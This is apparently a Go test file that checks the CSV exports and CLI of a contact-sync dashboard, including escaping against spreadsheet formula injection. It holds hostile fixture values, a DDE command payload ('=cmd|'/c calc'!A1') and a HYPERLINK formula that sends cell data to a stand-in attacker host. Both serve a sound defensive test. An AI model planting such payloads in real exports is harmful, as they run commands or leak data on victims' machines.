package dashboard_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/contactsync/contactsync/pkg/cli"
	"github.com/contactsync/contactsync/pkg/contact"
	"github.com/contactsync/contactsync/pkg/dashboard"
	"github.com/contactsync/contactsync/pkg/dashboard/dashboardtest"
	"github.com/contactsync/contactsync/pkg/internal/testenv"
	"github.com/contactsync/contactsync/pkg/pipeline"
	"github.com/contactsync/contactsync/pkg/review"
)

func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"},
		{"+1 217 555 0142", "'+1 217 555 0142"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=b", "a=b"},
		{"'already", "'already"},
	} {
		if got := dashboard.SafeCell(tc.in); got != tc.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// readCSV parses an export; every row must be a full CSV record.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, b)
	}
	return rows
}

// column returns the named column of rows (the first row is the header).
func column(t *testing.T, rows [][]string, name string) []string {
	t.Helper()
	at := -1
	for i, h := range rows[0] {
		if h == name {
			at = i
		}
	}
	if at < 0 {
		t.Fatalf("no column %q in %v", name, rows[0])
	}
	var out []string
	for _, r := range rows[1:] {
		if at < len(r) {
			out = append(out, r[at])
		}
	}
	return out
}

// saveHostile stores a kick-out whose record id and error a spreadsheet
// would run as formulas.
func saveHostile(t *testing.T, e *dashboardtest.Env) contact.KickOut {
	t.Helper()
	ctx := testenv.Context(t, 10*time.Second)
	body := `{"event_id": "evt-x-1", "type": "contact.updated", "contact": {"id": "=cmd|'/c calc'!A1", "first_`
	r := &kgo.Record{Topic: e.Sources.Topics.OnlineEvents, Partition: 0, Offset: 9999, Key: []byte("=cmd|'/c calc'!A1"),
		Value: []byte(body), Timestamp: time.Now().Add(-time.Minute)}
	ko := pipeline.KickOutFrom("ingest", "decode.json", errors.New(`=HYPERLINK("http://evil.example/?"&A1,"click")`), r)
	if err := e.Queue.SaveKickOuts(ctx, []contact.KickOut{ko}); err != nil {
		t.Fatal(err)
	}
	return ko
}

func TestExportKickOutsOverHTTP(t *testing.T) {
	a := newAPIEnv(t)
	hostile := saveHostile(t, a.Env)
	get := func(path string) (*http.Response, []byte) {
		t.Helper()
		req, err := http.NewRequest(http.MethodGet, a.srv.URL+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.SetBasicAuth(dashboardtest.User, dashboardtest.Password)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res, b
	}

	res, body := get("/api/export/kickouts.csv?status=open&reason=" + pipeline.ReasonInvalidField)
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
		!strings.HasPrefix(res.Header.Get("Content-Disposition"), `attachment; filename=contactsync-kickouts-`) ||
		res.Header.Get("X-Export-Truncated") != "" || res.Header.Get("Cache-Control") != "no-store" {
		t.Fatalf("export: %d %v\n%s", res.StatusCode, res.Header, body)
	}
	rows := readCSV(t, body)
	ids := column(t, rows, "id")
	if len(ids) != len(a.seed.InvalidField) || ids[0] != a.seed.Target.ID {
		t.Fatalf("open %s kick-outs exported: %v, want the %d of the seed, newest first", pipeline.ReasonInvalidField, ids, len(a.seed.InvalidField))
	}
	for _, s := range column(t, rows, "status") {
		if s != review.KickOutOpen {
			t.Errorf("status filter not applied: %q", s)
		}
	}
	if got := column(t, rows, "record_id")[0]; got != a.seed.TargetRecord {
		t.Errorf("record id of the newest: %q", got)
	}

	// The page's filters apply: status, and the search.
	_, body = get("/api/export/kickouts.csv?status=resolved")
	if ids := column(t, readCSV(t, body), "id"); len(ids) != 1 || ids[0] != a.seed.Resolved.ID {
		t.Errorf("resolved export: %v", ids)
	}

	// Formula injection: the cells come out as text.
	_, body = get("/api/export/kickouts.csv?reason=decode.json")
	rows = readCSV(t, body)
	found := false
	for i, id := range column(t, rows, "id") {
		if id != hostile.ID {
			continue
		}
		found = true
		if rec, errText := column(t, rows, "record_id")[i], column(t, rows, "error")[i]; rec != "'=cmd|'/c calc'!A1" ||
			!strings.HasPrefix(errText, `'=HYPERLINK(`) {
			t.Errorf("hostile cells: record_id %q, error %q", rec, errText)
		}
	}
	if !found {
		t.Fatalf("hostile kick-out %s not exported:\n%s", hostile.ID, body)
	}
	for _, line := range strings.Split(string(body), "\n") {
		for _, cell := range strings.Split(line, ",") {
			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("a cell starts with a formula character: %q", cell)
			}
		}
	}

	if res, body := get("/api/export/kickouts.csv?status=nope"); res.StatusCode != http.StatusBadRequest {
		t.Errorf("bad status: %d %s", res.StatusCode, body)
	}

	// Reviews: one row per held field, the status filter applied.
	res, body = get("/api/export/reviews.csv?status=pending")
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
		!strings.Contains(res.Header.Get("Content-Disposition"), "contactsync-reviews-") {
		t.Fatalf("review export: %d %v\n%s", res.StatusCode, res.Header, body)
	}
	rows = readCSV(t, body)
	fields := 0
	for _, it := range a.seed.Reviews {
		fields += len(it.Proposed)
	}
	if got := column(t, rows, "id"); len(got) != fields || got[0] != a.seed.Reviews[0].ID {
		t.Fatalf("review rows %v, want %d (one per held field), newest first", got, fields)
	}
	if cur, prop := column(t, rows, "current")[0], column(t, rows, "proposed")[0]; cur != "Natarajan" || prop != "Natarajan-Smythe" {
		t.Errorf("first review row: %q -> %q", cur, prop)
	}
	if res, _ := get("/api/export/reviews.csv?status=approved"); res.StatusCode != http.StatusOK {
		t.Errorf("approved reviews: %d", res.StatusCode)
	}
	if res, _ := get("/api/export/reviews.csv?status=bogus"); res.StatusCode != http.StatusBadRequest {
		t.Errorf("bogus review status: %d", res.StatusCode)
	}

	// Without a login there is nothing to download.
	res2, err := http.Get(a.srv.URL + "/api/export/kickouts.csv")
	if err != nil {
		t.Fatal(err)
	}
	res2.Body.Close()
	if res2.StatusCode != http.StatusUnauthorized {
		t.Errorf("export without login: %d", res2.StatusCode)
	}
}

// An export reads every page of its selection, and a selection over the
// cap is cut with a note in its last row.
func TestExportKickOutsPagesAndCap(t *testing.T) {
	e := dashboardtest.NewEnv(t)
	seed := dashboardtest.Seed(t, e)
	svc, err := review.NewService(e.Deps)
	if err != nil {
		t.Fatal(err)
	}
	ctx := testenv.Context(t, 30*time.Second)
	all := len(seed.InvalidField) + len(seed.Burst) + 5 // resolved, two truncated, ambiguous, routed

	var buf bytes.Buffer
	res, err := dashboard.ExportKickOutsPaged(ctx, svc, review.Filter{}, &buf, 4, 100)
	if err != nil {
		t.Fatal(err)
	}
	ids := column(t, readCSV(t, buf.Bytes()), "id")
	seen := map[string]bool{}
	for _, id := range ids {
		if seen[id] {
			t.Errorf("%s exported twice", id)
		}
		seen[id] = true
	}
	if res.Truncated || res.Rows != all || len(ids) != all || res.Total != all {
		t.Fatalf("paged export: %+v, %d rows, want all %d", res, len(ids), all)
	}

	buf.Reset()
	res, err = dashboard.ExportKickOutsPaged(ctx, svc, review.Filter{}, &buf, 4, 10)
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, buf.Bytes())
	last := rows[len(rows)-1]
	if !res.Truncated || res.Rows != 10 || len(rows) != 12 || len(last) != 1 ||
		!strings.Contains(last[0], "truncated: the newest 10 of "+strconv.Itoa(all)) {
		t.Fatalf("capped export: %+v, %d rows, last %q", res, len(rows), last)
	}
}

func TestExportCLI(t *testing.T) {
	e := dashboardtest.NewEnv(t)
	seed := dashboardtest.Seed(t, e)
	ctx := testenv.Context(t, time.Minute)
	run := func(args ...string) (int, string, string) {
		t.Helper()
		var out, errw bytes.Buffer
		open := func(context.Context) (review.Deps, func(), error) { return e.Deps, func() {}, nil }
		code := cli.Execute(ctx, dashboard.Command(open), args, nil, &out, &errw)
		return code, out.String(), errw.String()
	}
	file := filepath.Join(t.TempDir(), "ko.csv")
	code, out, errOut := run("export", "--reason", pipeline.ReasonInvalidField, "--out", file)
	if code != 0 || out != "" || !strings.Contains(errOut, "5 row(s) exported") {
		t.Fatalf("export: %d %q %q", code, out, errOut)
	}
	b, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if ids := column(t, readCSV(t, b), "id"); len(ids) != len(seed.InvalidField) || ids[0] != seed.Target.ID {
		t.Fatalf("exported ids %v", ids)
	}
	code, out, _ = run("export", "--status", "resolved")
	if ids := column(t, readCSV(t, []byte(out)), "id"); code != 0 || len(ids) != 1 || ids[0] != seed.Resolved.ID {
		t.Fatalf("export to stdout: %d %v", code, ids)
	}
	code, out, _ = run("export-reviews", "--status", "all")
	if rows := readCSV(t, []byte(out)); code != 0 || len(rows) != 1+1+5 {
		t.Fatalf("export-reviews: %d, %d rows\n%s", code, len(rows), out)
	}
	for _, bad := range [][]string{{"export", "--status", "nope"}, {"export", "--from", "yesterday"},
		{"export-reviews", "--status", "nope"}, {"export", "extra"}} {
		if code, _, _ := run(bad...); code != 2 {
			t.Errorf("%v: exit %d, want 2 (usage)", bad, code)
		}
	}
}
